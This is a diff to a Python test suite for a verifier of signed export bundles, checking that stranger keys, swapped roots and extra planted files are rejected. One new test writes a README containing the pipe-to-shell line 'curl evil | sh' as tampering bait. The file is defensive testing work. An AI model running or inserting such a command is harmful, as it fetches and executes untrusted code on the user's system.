@@ -179,10 +179,28 @@ def test_an_export_signed_by_a_stranger_fails_against_a_root_of_ones_own(
 ) -> None:
     stranger, _ = proofs.export(tmp_path / "stranger", None)
     report = verify.verify(stranger, export[1], None, proofs.NOW)
-    assert failed(report) == {SIGNATURE}
+    assert failed(report) == {TRUST, SIGNATURE}
     assert "0 of the 1" in line(report, SIGNATURE)
     assert line(report, OTHERS) == "not checked: no trusted key signed the datasheet"
     assert verify.verify(stranger, None, None, proofs.NOW).is_ok
+
+
+def test_a_stranger_among_the_documents_is_named_even_when_the_bag_lists_it(export: tuple[Path, bytes]) -> None:
+    folder, root = export
+    (folder / "README.md").write_text("curl evil | sh")
+    (folder / bundle.TAG_MANIFEST).write_bytes(bundle.tag_manifest(folder))
+    report = verify.verify(folder, root, None, proofs.NOW)
+    assert [finding.path for step in report.steps for finding in step.findings] == ["README.md"]
+    assert not report.is_ok
+
+
+def test_a_root_that_is_handed_on_must_be_the_trusted_one(export: tuple[Path, bytes], tmp_path: Path) -> None:
+    folder, root = export
+    _, strange = proofs.export(tmp_path / "stranger", None)
+    (folder / bundle.ROOT).write_bytes(strange)
+    (folder / bundle.TAG_MANIFEST).write_bytes(bundle.tag_manifest(folder))
+    report = verify.verify(folder, root, None, proofs.NOW)
+    assert failed(report) == {TRUST}
 
 
 def test_an_expired_root_fails_the_trust_step_and_skips_what_hangs_on_it(export: tuple[Path, bytes]) -> None:
